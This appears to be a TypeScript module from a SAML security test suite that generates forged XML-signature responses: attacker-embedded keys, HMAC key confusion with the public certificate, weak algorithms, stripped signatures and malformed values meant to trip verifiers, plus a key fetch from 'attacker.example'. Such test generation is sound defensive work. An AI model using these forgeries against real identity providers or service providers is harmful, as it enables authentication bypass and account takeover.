/** Who signed: embedded keys, confused kinds of keys, weak algorithms, no signature, verifiers that stumble (T22 to T26). */
import { createHash, createPublicKey, generateKeyPairSync, X509Certificate } from 'node:crypto'
import type { DigestAlgorithm, SignatureAlgorithm, TestKeys } from '../sign.ts'
import { type Draft, draft } from './attack.ts'
import { DS, type Material } from './material.ts'
import { before, changed } from './outline.ts'
import { forgedInPlace } from './references.ts'
import { hmac, resigned, rsa } from './signing.ts'

const MORE = 'http://www.w3.org/2001/04/xmldsig-more#'
const KEY_INFO = /<ds:KeyInfo>.*?<\/ds:KeyInfo>/gs
const METHOD = /SignatureMethod Algorithm="[^"]*"/

export const keys = (m: Material): readonly Draft[] => [
  ...embedded(m),
  ...confused(m),
  ...weak(m),
  ...unsigned(m),
  ...stumbling(m),
]

/** base64 DER of a certificate in either form. */
export const derOf = (certificate: string): string => certificate.replace(/-----[^-]+-----|\s/g, '')

/** The attacker signs; the message brings his key along in every way that KeyInfo knows. */
function embedded(m: Material): readonly Draft[] {
  const signed = (keyInfo?: string) => {
    const xml = m.fake(m.attacker)
    return keyInfo === undefined
      ? xml
      : xml.replace(KEY_INFO, (_, at: number) =>
          keyInfo ? `<ds:KeyInfo>${keyInfo.replaceAll('POINTER', `k${at}`)}</ds:KeyInfo>` : '',
        )
  }
  const der = (certificate: string) => `<ds:X509Certificate>${derOf(certificate)}</ds:X509Certificate>`
  const data = (content: string) => `<ds:X509Data>${content}</ds:X509Data>`
  const [own, idp] = [der(m.attacker.certificate), der(m.genuine.idpCertificate)]
  const jwk = createPublicKey(m.attacker.privateKey).export({ format: 'jwk' })
  const number = (value = '') => Buffer.from(value, 'base64url').toString('base64')
  const rsaValue = `<ds:RSAKeyValue><ds:Modulus>${number(jwk.n)}</ds:Modulus><ds:Exponent>${number(jwk.e)}</ds:Exponent></ds:RSAKeyValue>`
  const all: readonly (readonly [string, string, string | undefined])[] = [
    ['certificate', 'its certificate, same subject as the real one', undefined],
    ['none', 'nothing', ''],
    ['key-value', 'its bare key', `<ds:KeyValue>${rsaValue}</ds:KeyValue>`],
    ['chain', 'the real certificate, then its own', data(idp + own)],
    ['chain-reversed', 'its own certificate, then the real one', data(own + idp)],
    ['two-data', 'two X509Data, the real one first', data(idp) + data(own)],
    ['claims-real', 'only the real certificate', data(idp)],
    [
      'retrieval',
      'an address to fetch the key from',
      `<ds:RetrievalMethod Type="${DS}rawX509Certificate" URI="https://attacker.example/cert"></ds:RetrievalMethod>`,
    ],
    [
      'retrieval-inside',
      'a pointer into the message',
      `<ds:RetrievalMethod URI="#POINTER"></ds:RetrievalMethod><ds:X509Data Id="POINTER">${own}</ds:X509Data>`,
    ],
    [
      'key-name',
      'the name of the real key',
      `<ds:KeyName>Test identity provider</ds:KeyName><ds:KeyValue>${rsaValue}</ds:KeyValue>`,
    ],
  ]
  return [
    ...all.map(([name, title, info]) =>
      draft(`T22-${name}`, `Signed by the attacker, KeyInfo holds ${title}`, () => signed(info)),
    ),
    ...(m.shape === 'both'
      ? [
          draft('T22-inner-attacker', 'Response not signed, Assertion signed by the attacker', () =>
            m.fake(m.attacker, { sign: 'assertion' }),
          ),
          draft('T22-outer-attacker', 'Response signed by the attacker, Assertion not signed', () =>
            m.fake(m.attacker, { sign: 'response' }),
          ),
        ]
      : []),
  ]
}

/** HMAC keyed with what everybody knows, and signatures of another kind of key. */
function confused(m: Material): readonly Draft[] {
  const der = Buffer.from(derOf(m.genuine.idpCertificate), 'base64')
  const certificate = new X509Certificate(der)
  const pem = certificate.toString()
  const spki = certificate.publicKey.export({ type: 'spki', format: 'pem' }).toString()
  const secrets: Readonly<Record<string, string | Buffer>> = {
    pem,
    'pem-trimmed': pem.trim(),
    base64: derOf(m.genuine.idpCertificate),
    der,
    'public-key-pem': spki,
    'public-key-der': certificate.publicKey.export({ type: 'spki', format: 'der' }),
    empty: '',
  }
  const sign = (secret: string | Buffer, hash: string, uri: string) => {
    const xml = m.fake(m.attacker, { sign: m.shape === 'response' ? 'response' : 'assertion' })
    return resigned(xml, (info) => changed(info, METHOD, `SignatureMethod Algorithm="${uri}"`), hmac(secret, hash))
  }
  const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  return [
    ...Object.entries(secrets).map(([name, secret]) =>
      draft(`T23-hmac-${name}`, `HMAC-SHA-256 keyed with the identity provider's certificate: ${name}`, () =>
        sign(secret, 'sha256', `${MORE}hmac-sha256`),
      ),
    ),
    draft('T23-hmac-sha1', 'HMAC-SHA-1 keyed with the certificate', () => sign(pem, 'sha1', `${DS}hmac-sha1`)),
    draft('T23-hmac-truncated', 'HMAC cut to eight bits by HMACOutputLength', () => {
      const xml = m.fake(m.attacker, { sign: m.shape === 'response' ? 'response' : 'assertion' })
      const method = `<ds:SignatureMethod Algorithm="${MORE}hmac-sha256"><ds:HMACOutputLength>8</ds:HMACOutputLength></ds:SignatureMethod>`
      return resigned(
        xml,
        (info) => changed(info, /<ds:SignatureMethod .*?<\/ds:SignatureMethod>/s, method),
        (data) => hmac(pem)(data).subarray(0, 1),
      )
    }),
    draft('T23-ecdsa', "Signed with the attacker's elliptic-curve key", () =>
      m.fake({ privateKey: ec.privateKey, certificate: m.attacker.certificate }, { algorithm: 'ecdsa-sha256' }),
    ),
    draft('T23-rsa-called-ecdsa', 'An RSA signature that calls itself ECDSA', () =>
      resigned(
        m.fake(m.attacker, { sign: m.shape === 'response' ? 'response' : 'assertion' }),
        (info) => changed(info, METHOD, `SignatureMethod Algorithm="${MORE}ecdsa-sha256"`),
        rsa(m.attacker),
      ),
    ),
  ]
}

/** The identity provider itself signs, with what is broken. A short key is the attacker's own where there are no keys. */
function weak(m: Material): readonly Draft[] {
  const idp = m.genuine.idpKeys
  const short = generateKeyPairSync('rsa', { modulusLength: 1024 }).privateKey
  const drafts = [
    draft('T24-short-key', 'Signed with an RSA key of 1024 bits', () =>
      m.fake({ privateKey: short, certificate: m.attacker.certificate }),
    ),
  ]
  if (idp === undefined) return drafts
  const by = (algorithm: SignatureAlgorithm, digest: DigestAlgorithm) => () => m.fake(idp, { algorithm, digest }, true)
  const single = (keys: TestKeys) => m.fake(keys, { sign: m.shape === 'response' ? 'response' : 'assertion' }, true)
  return [
    ...drafts,
    draft('T24-rsa-sha1', 'RSA with SHA-1', by('rsa-sha1', 'sha256')),
    draft('T24-digest-sha1', 'A SHA-1 digest', by('rsa-sha256', 'sha1')),
    draft('T24-sha1', 'SHA-1 for both', by('rsa-sha1', 'sha1')),
    draft('T24-digest-md5', 'An MD5 digest', by('rsa-sha256', 'md5')),
    draft('T24-rsa-md5', 'RSA with MD5', () =>
      resigned(
        single(idp),
        (info) => changed(info, METHOD, `SignatureMethod Algorithm="${MORE}rsa-md5"`),
        rsa(idp, 'md5'),
      ),
    ),
  ]
}

/** Nothing is signed, or what looks like a signature is none. */
function unsigned(m: Material): readonly Draft[] {
  const plain = m.forgedResponse
  const status = `<${m.samlp}Status>`
  const ns = m.ds ? `xmlns:${m.ds.slice(0, -1)}` : 'xmlns'
  const { own, open } = forgedInPlace(m)
  const drafts = [
    draft('T25-stripped', 'Forged, and every signature taken away', () => plain),
    draft('T25-genuine-stripped', 'Genuine, and every signature taken away', () =>
      m.bareResponse.replace(m.assertion, () => m.bareAssertion),
    ),
    draft('T25-empty-signature', 'Forged, with an empty Signature element', () =>
      before(plain, status, `<${m.ds}Signature ${ns}="${DS}"></${m.ds}Signature>`),
    ),
    draft('T25-foreign-signature', 'Forged, the genuine Signature in another namespace', () =>
      open(own.replaceAll(DS, 'urn:example:nothing')),
    ),
    draft('T25-signature-value-only', 'Forged, a Signature without SignedInfo', () =>
      open(own.replace(new RegExp(`<${m.ds}SignedInfo.*</${m.ds}SignedInfo>`, 's'), '')),
    ),
    draft('T25-kept', 'Forged under the genuine signature', () => open(own)),
  ]
  if (m.shape !== 'both') return drafts
  return [
    ...drafts,
    draft('T25-inner-only-stripped', 'Forged unsigned Assertion in the signed Response', () =>
      changed(m.xml, m.assertion, m.forgedAssertion),
    ),
    draft('T25-inner-genuine-stripped', "The signed Response with its Assertion's signature taken away", () =>
      changed(m.xml, m.assertionSignature, ''),
    ),
  ]
}

/** Signatures that make a verifier throw or return something odd: an exception must not count as a yes. */
function stumbling(m: Material): readonly Draft[] {
  const { own, open, digest } = forgedInPlace(m)
  const honestDigest = () => changed(own, /(?<=DigestValue>)[^<]*/, digest())
  const value = (text: string) => () => open(changed(honestDigest(), /(?<=SignatureValue>)[^<]*/, text))
  const method = (uri: string) => () => open(changed(honestDigest(), METHOD, `SignatureMethod Algorithm="${uri}"`))
  const zeros = (length: number) => Buffer.alloc(length).toString('base64')
  return [
    draft('T26-value-empty', 'SignatureValue is empty', value('')),
    draft('T26-value-zeros', 'SignatureValue is all zeros', value(zeros(256))),
    draft('T26-value-short', 'SignatureValue of three bytes', value(zeros(3))),
    draft('T26-value-long', 'SignatureValue of 4 KB', value(zeros(4096))),
    draft('T26-value-not-base64', 'SignatureValue that is no base64', value('!!!')),
    draft('T26-value-of-nothing', 'SignatureValue is a hash of nothing', value(createHash('sha256').digest('base64'))),
    draft('T26-method-empty', 'No name of an algorithm', method('')),
    draft('T26-method-none', 'An algorithm called none', method('none')),
    draft('T26-method-prototype', 'An algorithm called __proto__', method('__proto__')),
    draft('T26-method-constructor', 'An algorithm called constructor', method('constructor')),
    draft('T26-ecdsa-zeros', 'ECDSA with r and s zero', () =>
      open(
        changed(
          changed(honestDigest(), METHOD, `SignatureMethod Algorithm="${MORE}ecdsa-sha256"`),
          /(?<=SignatureValue>)[^<]*/,
          zeros(64),
        ),
      ),
    ),
    draft('T26-bad-certificate', 'A certificate that cannot be read', () =>
      m.fake(m.attacker).replace(/(?<=X509Certificate>)[^<]*/g, 'AAAA'),
    ),
  ]
}
